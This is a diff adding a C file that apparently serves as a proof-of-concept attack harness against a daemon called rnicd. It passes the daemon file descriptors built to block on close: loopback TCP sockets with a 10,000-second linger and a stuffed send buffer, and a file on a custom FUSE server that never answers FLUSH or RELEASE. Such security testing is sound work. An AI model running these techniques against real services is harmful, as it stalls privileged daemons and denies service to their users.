@@ -1,0 +1,171 @@
+/* SPDX-License-Identifier: BSD-3-Clause */
+/* Descriptors that take long to close, and more of them than there are. */
+#include "attack.h"
+
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/fuse.h>
+#include <netinet/in.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "raw_client.h"
+
+#define LINGER_S 10000
+
+/* A TCP connection of the kernel's with bytes under way that nobody takes: closing it last waits for LINGER_S. */
+static int lingering(void)
+{
+	int l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), small = 4096;
+	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	const struct linger li = { 1, LINGER_S };
+	static char bytes[65536];
+	socklen_t len = sizeof(a);
+
+	setsockopt(l, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
+	raw_must(bind(l, (struct sockaddr *)&a, sizeof(a)) == 0 && listen(l, 1) == 0 &&
+		 getsockname(l, (struct sockaddr *)&a, &len) == 0 && connect(s, (struct sockaddr *)&a, sizeof(a)) == 0 &&
+		 accept4(l, NULL, NULL, SOCK_CLOEXEC) >= 0, "a TCP connection on the loopback"); /* that end stays open */
+	close(l);
+	fcntl(s, F_SETFL, O_NONBLOCK);
+	while (write(s, bytes, sizeof(bytes)) > 0)
+		;
+	fcntl(s, F_SETFL, 0);
+	setsockopt(s, SOL_SOCKET, SO_LINGER, &li, sizeof(li));
+	return s;
+}
+
+static void ask_with(struct raw *r, int *fds, unsigned n)
+{
+	struct ipc_msg m = { .type = IPC_QUERY_DEV, .len = IPC_MSG_LEN(query_dev), .seq = ++r->seq };
+
+	raw_must(ipc_send(r->sock, &m, fds, n) == 0, "send");
+	for (unsigned i = 0; i < n; i++)
+		close(fds[i]);
+}
+
+/*
+ * Asks for a neighbour that does not exist. Until rnicd has given that up, what is sent next stays in the socket: so this
+ * process has closed its descriptors of that before anybody else does, and is not the last to.
+ */
+static void keep_busy(struct raw *r)
+{
+	struct ipc_msg m = { .type = IPC_REACH, .len = IPC_MSG_LEN(reach), .seq = ++r->seq };
+	const struct ipc_addr nobody = raw_addr("10.77.0.99", 0);
+
+	memcpy(m.reach.ip, nobody.ip, sizeof(m.reach.ip));
+	raw_must(ipc_send(r->sock, &m, NULL, 0) == 0, "send");
+}
+
+int mode_lingering(void)
+{
+	struct ipc_msg m;
+	struct raw r;
+	int fds[IPC_MAX_FDS];
+
+	raw_must(raw_open(&r) == 0, "open");
+	for (int i = 0; i < IPC_MAX_FDS; i++)
+		fds[i] = lingering();
+	keep_busy(&r);
+	ask_with(&r, fds, IPC_MAX_FDS);
+	int rc = ipc_recv(r.sock, &m, NULL, NULL);
+	printf("no neighbour: %d %d\n", rc, rc == 0 ? m.status : 0);
+	rc = ipc_recv(r.sock, &m, NULL, NULL);
+	printf("answered: %d %d\n", rc, rc == 0 ? m.status : 0);
+	return 0;
+}
+
+/* They lie unread in the socket when that is closed: the kernel closes them then. */
+int mode_unread(void)
+{
+	struct raw r;
+
+	raw_must(raw_open(&r) == 0, "open");
+	int fds[4] = { lingering(), lingering(), lingering(), lingering() };
+	keep_busy(&r);
+	for (int i = 0; i < 4; i++)
+		ask_with(&r, &fds[i], 1);
+	raw_close(&r);
+	printf("closed\n");
+	pause(); /* the other ends of the connections are this process's */
+	return 0;
+}
+
+/* ---- a file whose server does not answer ---- */
+
+static int server = -1; /* /dev/fuse */
+
+static void reply(uint64_t unique, const void *d, size_t n)
+{
+	char b[512];
+	const struct fuse_out_header h = { .len = (uint32_t)(sizeof(h) + n), .unique = unique };
+
+	memcpy(b, &h, sizeof(h));
+	if (n > 0)
+		memcpy(b + sizeof(h), d, n);
+	if (write(server, b, sizeof(h) + n) < 0)
+		perror("fuse");
+}
+
+/* Answers everything but FLUSH and RELEASE, which closing a file sends. Ends with its file system. */
+static void serve(void)
+{
+	static char b[1 << 17];
+	ssize_t n;
+
+	while ((n = read(server, b, sizeof(b))) > 0) {
+		const struct fuse_in_header *h = (const void *)b;
+		struct fuse_attr at = { .ino = h->nodeid, .mode = h->nodeid == 1 ? S_IFDIR | 0755 : S_IFREG | 0666, .nlink = 1, .size = 4096 };
+		if (h->opcode == FUSE_INIT) {
+			const struct fuse_init_out o = { .major = 7, .minor = 31, .max_write = 65536, .max_readahead = 65536 };
+			reply(h->unique, &o, sizeof(o));
+		} else if (h->opcode == FUSE_LOOKUP) {
+			at.ino = 2;
+			at.mode = S_IFREG | 0666;
+			const struct fuse_entry_out o = { .nodeid = 2, .attr = at, .entry_valid = 10000, .attr_valid = 10000 };
+			reply(h->unique, &o, sizeof(o));
+		} else if (h->opcode == FUSE_GETATTR) {
+			const struct fuse_attr_out o = { .attr = at, .attr_valid = 10000 };
+			reply(h->unique, &o, sizeof(o));
+		} else if (h->opcode == FUSE_OPEN || h->opcode == FUSE_OPENDIR) {
+			const struct fuse_open_out o = { .fh = 1 };
+			reply(h->unique, &o, sizeof(o));
+		} else if (h->opcode == FUSE_FLUSH) {
+			printf("held\n");
+		}
+	}
+}
+
+/* $MOUNT: an empty directory. As root mounts there, then becomes $UID. The line "cannot mount" tells why there is no attack. */
+int mode_fuse(void)
+{
+	const char *at = getenv("MOUNT");
+	char options[64], file[256];
+	struct raw r;
+
+	server = open("/dev/fuse", O_RDWR | O_CLOEXEC);
+	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", server);
+	if (server < 0 || mount("attack", at, "fuse", MS_NOSUID | MS_NODEV, options) != 0) {
+		printf("cannot mount: %s\n", strerror(errno));
+		return 0;
+	}
+	pid_t pid = fork();
+	if (pid == 0) {
+		serve();
+		_exit(0);
+	}
+	close(server);
+	snprintf(file, sizeof(file), "%s/file", at);
+	int fd = open(file, O_RDWR | O_CLOEXEC);
+	raw_must(fd >= 0 && setgid(65534) == 0 && setuid(65534) == 0 && raw_open(&r) == 0, "a file of FUSE");
+	struct ipc_msg m = { .type = IPC_QUERY_DEV, .len = IPC_MSG_LEN(query_dev), .seq = ++r.seq };
+	raw_must(ipc_send(r.sock, &m, &fd, 1) == 0, "send");
+	printf("sent\n");
+	int rc = ipc_recv(r.sock, &m, NULL, NULL);
+	printf("answered %d %d\n", rc, rc == 0 ? m.status : 0);
+	return 0;
+}
